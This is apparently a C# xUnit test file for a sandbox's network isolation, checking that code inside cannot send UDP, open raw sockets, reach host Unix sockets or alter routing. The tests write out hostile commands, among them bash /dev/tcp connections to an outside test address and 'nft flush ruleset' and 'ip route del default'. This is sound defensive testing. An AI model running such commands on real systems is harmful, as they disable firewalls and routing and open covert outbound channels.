using System.Net;
using System.Net.Sockets;
using System.Text;
using Ringfence.Sandboxes;
using Xunit;

namespace Ringfence.Tests.Sandboxes;

/// <summary>What the sandbox's own network refuses, before any door is asked. What the door refuses is in Egress.</summary>
public sealed class An_attack_on_the_network
{
    private static readonly SandboxDoors Both = SandboxDoors.Gateway | SandboxDoors.Egress;

    [Fact]
    public async Task N26_cannot_send_udp_as_quic_does()
    {
        using var outside = new Socket(AddressFamily.InterNetwork, SocketType.Dgram, ProtocolType.Udp);
        outside.Bind(new IPEndPoint(IPAddress.Any, 0));
        var port = ((IPEndPoint)outside.LocalEndPoint!).Port;

        // The refusal of the first comes with the second.
        var lines = await Attack.RunAsync(Attack.Python($"""
            for family, address in ((2, '192.0.2.1'), (2, '127.0.0.1'), (10, '2001:db8::1')):
                for port in (443, {port}):
                    s = socket.socket(family, socket.SOCK_DGRAM)
                    s.settimeout(300)
                    s.connect((address, port))
                    print(attempt(lambda: (s.send(b'x'), s.recv(1))))
            """) with
        { Doors = Both });

        Assert.All(lines, l => Assert.Contains(l, (string[])["EPERM", "ECONNREFUSED", "EHOSTUNREACH", "ENETUNREACH", "EACCES"]));
        Assert.Equal(6, lines.Length);
        Assert.Equal(0, outside.Available);
    }

    [Fact]
    public async Task N27_cannot_send_icmp_nor_raw_packets()
    {
        var lines = await Attack.RunAsync(Attack.Python("""
            print(attempt(lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP)))
            print(attempt(lambda: socket.socket(socket.AF_INET6, socket.SOCK_DGRAM, socket.IPPROTO_ICMPV6)))
            print(attempt(lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)))
            print(attempt(lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_TCP)))
            """) with
        { Doors = Both });

        Assert.All(lines, l => Assert.Contains(l, (string[])["EACCES", "EPERM"]));
        Assert.Equal(4, lines.Length);
    }

    [Fact]
    public async Task N28_needs_no_proxy_variable_to_be_caught()
    {
        using var folder = new TrialFolder();
        var spec = Trial.Shell("env | grep -ci proxy; exec 3<>/dev/tcp/203.0.113.7/8443; echo hello >&3; read -r answer <&3; echo $answer") with { Doors = Both };
        var started = await Trial.Launcher(folder).StartAsync(spec, "trial", new FactRecorder(), TestContext.Current.CancellationToken);
        await using var sandbox = started.Value;

        using var caught = await sandbox.EgressListener!.AcceptAsync(TestContext.Current.CancellationToken);
        var said = new byte[6];
        await using (var stream = new NetworkStream(caught))
        {
            await stream.ReadExactlyAsync(said, TestContext.Current.CancellationToken);
        }

        await caught.SendAsync("caught\n"u8.ToArray(), TestContext.Current.CancellationToken);

        Assert.Equal("hello\n", Encoding.ASCII.GetString(said));
        Assert.Equal("0\ncaught\n", await Trial.ReadAsync(sandbox.StandardOutput));
    }

    [Fact]
    public async Task N29_reaches_no_abstract_socket_of_the_host_of_any_type()
    {
        var name = $"ringfence-test-{Guid.NewGuid():N}";
        using var stream = Listen(SocketType.Stream);
        using var packets = Listen(SocketType.Seqpacket);

        Assert.Equal(["ECONNREFUSED", "ECONNREFUSED"], await Attack.RunAsync($"""
            print(attempt(lambda: socket.socket(socket.AF_UNIX, socket.SOCK_STREAM).connect('\0{name}-Stream')))
            print(attempt(lambda: socket.socket(socket.AF_UNIX, socket.SOCK_SEQPACKET).connect('\0{name}-Seqpacket')))
            """));

        Socket Listen(SocketType type)
        {
            var socket = new Socket(AddressFamily.Unix, type, ProtocolType.Unspecified);
            socket.Bind(new UnixDomainSocketEndPoint($"\0{name}-{type}"));
            socket.Listen(1);
            return socket;
        }
    }

    [Fact]
    public async Task N34_cannot_change_its_routes_nor_its_rules()
    {
        Assert.SkipUnless(File.Exists("/usr/sbin/nft"), "nft is not installed: the sandbox has no program that could try.");
        var trial = await Trial.RunAsync(Trial.Shell(
            """
            export PATH=$PATH:/usr/sbin
            nft flush ruleset >/dev/null 2>&1; echo nft $?
            ip route del default >/dev/null 2>&1; echo ip $?
            ip link set lo down >/dev/null 2>&1; echo link $?
            (echo 1 > /proc/sys/net/ipv4/ip_forward) 2>/dev/null; echo sys $?
            (exec 3<>/dev/tcp/203.0.113.7/9) && echo still captured
            """) with
        { Doors = Both });

        Assert.Matches("^nft [1-9]\\d*\nip [1-9]\\d*\nlink [1-9]\\d*\nsys [1-9]\\d*\nstill captured\n$", trial.Output);
    }
}
